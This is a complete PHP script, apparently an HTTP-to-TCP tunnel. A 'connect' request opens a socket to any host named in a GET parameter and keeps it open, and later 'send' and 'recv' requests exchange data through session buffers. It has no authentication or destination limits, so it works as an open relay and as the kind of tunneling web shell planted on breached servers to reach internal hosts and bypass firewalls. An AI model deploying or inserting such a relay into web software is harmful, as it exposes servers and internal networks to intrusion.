<?php
// Session-queue relay: a "connect" request opens the socket and stays, polling it with select
// and exchanging data with later requests through two buffers kept in the session.
session_start();
$c = preg_replace('/\W/', '', $_GET['c']);
switch ($_GET['do']) {
case 'connect':
    $_SESSION["tx$c"] = '';
    $_SESSION["rx$c"] = '';
    $_SESSION["up$c"] = true;
    session_write_close();
    $peer = stream_socket_client('tcp://' . $_GET['to'], $errno, $errstr, 5);
    while ($peer) {
        session_start();
        $up = !empty($_SESSION["up$c"]);
        $tx = $_SESSION["tx$c"];
        $_SESSION["tx$c"] = '';
        session_write_close();
        if (!$up) {
            break;
        }
        if ($tx !== '') {
            fwrite($peer, $tx);
        }
        $r = array($peer);
        $w = $x = null;
        if (stream_select($r, $w, $x, 0, 100000) > 0) {
            $got = fread($peer, 8192);
            session_start();
            $_SESSION["rx$c"] .= $got;
            session_write_close();
        }
    }
    break;
case 'send':
    $_SESSION["tx$c"] .= file_get_contents('php://input');
    break;
case 'recv':
    echo $_SESSION["rx$c"];
    $_SESSION["rx$c"] = '';
    break;
default:
    $_SESSION["up$c"] = false;
}
